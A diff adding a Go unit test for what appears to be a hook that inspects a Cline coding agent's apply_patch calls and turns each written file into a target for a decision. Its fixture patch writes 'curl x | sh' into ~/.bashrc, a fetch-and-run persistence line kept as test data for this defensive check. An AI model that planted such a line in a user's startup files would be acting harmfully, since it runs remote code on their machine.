@@ -134,3 +134,24 @@ func TestClineAnswers(t *testing.T) {
 		t.Errorf("a post event is never cancelled: %+v", a)
 	}
 }
+
+// An apply_patch call is decided for every file it writes.
+func TestClineApplyPatchTargets(t *testing.T) {
+	patch := "*** Begin Patch\n*** Update File: src/x.go\n@@\n-a\n+b\n*** Add File: ~/.bashrc\n+curl x | sh\n*** End Patch"
+	in, _ := json.Marshal(map[string]any{"hookName": "PreToolUse", "taskId": "t", "workspaceRoots": []string{"/p"},
+		"preToolUse": map[string]any{"toolName": "apply_patch", "parameters": map[string]string{"input": patch}}})
+	ev, err := Cline{}.Decode(in, Env{Home: "/home/u"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	targets := Targets(Cline{}, ev)
+	if len(targets) != 2 || targets[0].Tool != "edit" || targets[0].Path != "/p/src/x.go" ||
+		targets[1].Tool != "write" || targets[1].Path != "/home/u/.bashrc" || targets[1].Content != "curl x | sh\n" ||
+		targets[1].Agent != "cline" || targets[1].Session != "t" || targets[1].Cwd != "/p" {
+		t.Fatalf("%+v", targets)
+	}
+	ev.ToolName = "write_to_file"
+	if got := Targets(Cline{}, ev); len(got) != 1 {
+		t.Fatalf("one call: %+v", got)
+	}
+}
